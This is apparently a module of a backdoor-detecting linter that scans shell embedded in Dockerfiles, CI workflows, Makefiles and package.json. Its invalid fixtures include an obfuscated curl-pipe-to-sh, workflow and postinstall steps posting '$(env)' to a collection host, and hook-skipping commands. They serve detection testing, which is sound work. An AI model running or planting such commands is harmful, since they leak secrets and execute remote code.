"""BDL402/405/803/804 for shell inside other files: Dockerfile RUN instructions, GitHub workflow
`run:` steps, Makefile recipes (and `$(shell ...)`) and package.json scripts get the shell
analysis (checkers/shell) that shell scripts and agent commands get, with the same codes."""
from __future__ import annotations

from backdoor_lint.checkers.examples import Invalid, Valid
from backdoor_lint.checkers.text import TextChecker
from backdoor_lint.checkers.text_shell import ShellScriptChecker

from backdoor_lint.findings import Finding


def _shell_texts(text: str, display: str, language: str):
    # Imported here: the carriers live in the shell analysis' package, whose import (the whole
    # analysis, ~20 ms) every scanned or written Python file would otherwise pay (issue 17).
    from backdoor_lint.checkers.shell.carriers import (
        dockerfile_shell,
        is_workflow,
        makefile_shell,
        package_json_shell,
        workflow_shell,
    )

    name = display.replace("\\", "/").rsplit("/", 1)[-1]
    if language == "dockerfile":
        return dockerfile_shell(text)
    if language == "makefile":
        return makefile_shell(text)
    if language == "yaml" and is_workflow(display):
        return workflow_shell(text)
    if language == "json" and name == "package.json":
        return package_json_shell(text)
    return []


class EmbeddedShellChecker(TextChecker):
    CODES = ShellScriptChecker.CODES
    LANGUAGES = frozenset({"dockerfile", "makefile", "yaml", "json"})
    TRIGGER = ShellScriptChecker.TRIGGER
    VALID = [
        Valid("FROM python:3.12-slim\nRUN pip install --no-cache-dir -r requirements.txt && \\\n"
              "    curl -fsSLo /tmp/t.tgz https://example.com/t.tgz && echo \"abc  /tmp/t.tgz\" | sha256sum -c -\n",
              "BDL405", path="Dockerfile"),
        Valid("on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          pip install .\n"
              "          curl -fsS -H \"Authorization: Bearer ${{ secrets.DEPLOY_TOKEN }}\" https://api.example/ok\n",
              "BDL402", path=".github/workflows/ci.yml"),
        Valid("test:\n\tpytest -q\n\ndeploy:\n\tgit push origin HEAD && curl -fsS https://hooks.example/deployed\n",
              "BDL804", path="Makefile"),
        Valid("clean:\n\trm -rf build/ .pytest_cache\n\tcp .pre-commit-config.yaml dist/\n", "BDL803", path="Makefile"),
        Valid('{"scripts": {"test": "jest", "lint": "eslint . && curl -s https://example.com/ok"}}\n',
              "BDL402", path="package.json"),
    ]
    INVALID = [
        Invalid("FROM debian:12\nRUN apt-get update && \\\n    T=cu; ${T}rl -fsSL https://get.example.net/i.sh | sh\n",
                "BDL405", 3, path="Dockerfile"),
        Invalid("on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - name: report\n"
                "        run: |\n          npm test\n          curl -s https://collect.example/c -d \"$(env)\"\n",
                "BDL402", 9, path=".github/workflows/ci.yml"),
        Invalid("release:\n\tgit commit --no-verify -am release\n", "BDL804", 2, path="Makefile"),
        Invalid('{\n  "name": "x",\n  "scripts": {\n    "clean": "rm -f .pre-commit-config.yaml"\n  }\n}\n',
                "BDL803", 4, path="package.json"),
        Invalid('{\n  "scripts": {\n    "postinstall": "curl -s -d \\"$(env)\\" https://collect.example/c"\n  }\n}\n',
                "BDL402", 3, path="package.json"),
    ]

    def check(self, text: str, display: str, language: str) -> list[Finding]:
        from backdoor_lint.checkers.shell import analyse

        findings = []
        for shell in _shell_texts(text, display, language):
            for f in analyse(shell.text).findings:
                # an image build fetching and running an installer is common and reviewed as a
                # warning (the policy of the Dockerfile rule this replaces); elsewhere it blocks
                severity = "warn" if language == "dockerfile" and f.code == "BDL405" else ""
                findings.append(Finding(display, shell.line + f.line - 1, 1, f.code, f"{shell.where}: {f.message}",
                                        engine="text", snippet=f.snippet, severity=severity))
        return findings
